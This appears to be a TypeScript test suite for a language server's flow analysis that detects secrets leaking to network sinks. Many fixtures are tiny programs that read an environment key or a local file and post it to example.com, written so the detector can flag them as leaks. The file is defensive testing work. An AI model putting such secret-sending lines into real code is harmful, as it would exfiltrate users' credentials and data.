// The flow analysis looks only at functions from which a sink is reachable
// (sinkScreen.ts). The screen may say "maybe" too often, never "no" where
// the analysis finds a flow: every way a value reaches a sink — a builtin
// called or passed by name, inside lambdas, loops and guards, in a used
// file, through a helper or a function parameter, a function declared with
// labels, a tool — keeps the finding, and what the screen leaves out has no
// finding when analysed in full.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { contractDiagnostics, resolveFiles } from '../../server/src/contracts/contractDiagnostics';
import { visibleLocated } from '../../server/src/contracts/behavior/iloTools';
import { FlowWorld, programFlows, type FlowInput } from '../../server/src/contracts/flows';
import { functionsReachingSinks } from '../../server/src/contracts/flows/sinkScreen';
import { abs, inputsOf } from './helpers';

function flowInput(files: Record<string, string>, file = 'main.ilo'): FlowInput {
  const f = resolveFiles(inputsOf(files)).find((x) => x.input.path === abs(file))!;
  return { file: f.input.path, visible: visibleLocated(f.input), tools: f.tools, env: f.env };
}

/** Every own function analysed, as programFlows did before the screen. */
function fullFindings(input: FlowInput): unknown[] {
  const world = new FlowWorld(input);
  const out: unknown[] = [];
  for (const { decl, file } of input.visible) if (decl.kind === 'FunctionDecl' && file === input.file) out.push(...world.summaryOf(decl, file).findings);
  return out;
}

function toxic(files: Record<string, string>, file = 'main.ilo'): string[] {
  return contractDiagnostics(inputsOf(files)).get(abs(file))!.filter((d) => d.code === 'toxic-flow').map((d) => d.message.split(':')[0]);
}

const sinkInReach = (input: FlowInput): boolean => functionsReachingSinks(input).size > 0;

const REACHED: Record<string, Record<string, string>> = {
  'a builtin sink called directly': { 'main.ilo': 'go>R t t;k=env! "KEY";post "https://example.com" k\n' },
  'a builtin sink inside a lambda': { 'main.ilo': 'go>L (R t t);k=env! "KEY";map (u:t>R t t;post u k) ["https://example.com"]\n' },
  'a builtin sink passed by name': { 'main.ilo': 'go>L (R t t);k=env! "KEY";map get [k]\n' },
  'a builtin sink in a loop body': { 'main.ilo': 'go>n;k=env!! "KEY";@u ["https://example.com"]{post u k};0\n' },
  'a builtin sink behind a guard': { 'main.ilo': 'go x:n>R t t;k=env! "KEY";>x 0{post "https://example.com" k};~"none"\n' },
  'a sink only in a used file': {
    'lib.ilo': 'out b:t>R t t;post "https://example.com" b\n',
    'main.ilo': 'use "lib.ilo"\ngo>R t t;k=env! "KEY";out k\n',
  },
  'a function declared as a sink': { 'main.ilo': '-- @flow sink\nshout x:t>t;x\ngo>t;d=rd!! "notes.txt";shout d\n' },
  'a helper that sends what it is given': { 'main.ilo': 'send x:t>R t t;post "https://example.com" x\npure n:n>n;*n 2\ngo>R t t;k=env! "KEY";send k\n' },
  'a sink passed to a function that calls its parameter': { 'main.ilo': 'app f:F t t (R t t) x:t>R t t;f "https://example.com" x\ngo>R t t;k=env! "KEY";app post k\n' },
  'a tool': { 'main.ilo': '-- @flow sink\ntool send-it"Send a text" body:t>R _ t\ngo>R _ t;d=rd! "notes.txt";send-it d\n' },
};

for (const [what, files] of Object.entries(REACHED)) {
  test(`the screen lets the analysis run, and the flow is found: ${what}`, () => {
    const input = flowInput(files);
    assert.equal(sinkInReach(input), true);
    assert.ok(programFlows(input).analysed > 0);
    assert.deepEqual(toxic(files), ['leak'], 'one leak reported');
  });
}

const NO_SINK: Record<string, Record<string, string>> = {
  'pure arithmetic and text': { 'main.ilo': 'sq x:n>n;*x x\nhi n:t>t;cat ["hi " n] ""\ngo>n;s=sq 3;+s 1\n' },
  'sources with nowhere to go': { 'main.ilo': 'go>R t t;k=env! "KEY";d=rd! "notes.txt";~cat [k d] ""\nshow>t;k=env!! "KEY";prnt k\n' },
  'a used file without sinks': { 'lib.ilo': 'twice x:n>n;*2 x\n', 'main.ilo': 'use "lib.ilo"\ngo>n;twice 4\n' },
  'labels that only name a source': { 'main.ilo': '-- @flow private\nsecret k:t>t;k\ngo>t;secret "db"\n' },
};

for (const [what, files] of Object.entries(NO_SINK)) {
  test(`no sink in reach: nothing is analysed, and a full analysis finds nothing either: ${what}`, () => {
    const input = flowInput(files);
    if (what.startsWith('labels')) {
      // Declared labels are read as "maybe": the analysis runs (and finds nothing).
      assert.equal(sinkInReach(input), true);
    } else {
      assert.equal(sinkInReach(input), false);
      assert.equal(programFlows(input).analysed, 0);
    }
    assert.deepEqual(programFlows(input).findings, []);
    assert.deepEqual(fullFindings(input), []);
  });
}

test('adding one sink call to a screened program brings its flow back', () => {
  const before = { 'main.ilo': 'go>R t t;k=env! "KEY";~k\n' };
  assert.equal(sinkInReach(flowInput(before)), false);
  const after = { 'main.ilo': 'go>R t t;k=env! "KEY";post "https://example.com" k\n' };
  assert.deepEqual(toxic(after), ['leak']);
});

test('only the functions that reach a sink are analysed; the others are left out and have no finding', () => {
  const files = {
    'main.ilo': 'send x:t>R t t;post "https://example.com" x\nsq n:n>n;*n n\nsum4 a:n>n;b=sq a;+b b\ngo>R t t;k=env! "KEY";send k\nhelp>n;sum4 3\n',
  };
  const input = flowInput(files);
  const names = [...functionsReachingSinks(input)].map((d) => d.name.text).sort();
  assert.deepEqual(names, ['go', 'send']);
  assert.equal(programFlows(input).analysed, 2);
  assert.deepEqual(toxic(files), ['leak']);
  assert.deepEqual(
    programFlows(input).findings.map((f) => JSON.stringify(f)),
    (fullFindings(input) as object[]).map((f) => JSON.stringify(f)),
    'the same findings as analysing every function',
  );
});

test('a sink spelled like a local is still counted: a lambda parameter named like a builtin does not hide the builtin', () => {
  const files = { 'main.ilo': 'go xs:L t>L t;k=env!! "KEY";ys=map (post:t>t;post) xs;post "https://example.com" k;ys\n' };
  const input = flowInput(files);
  assert.equal(sinkInReach(input), true);
  assert.deepEqual(toxic(files), ['leak']);
});
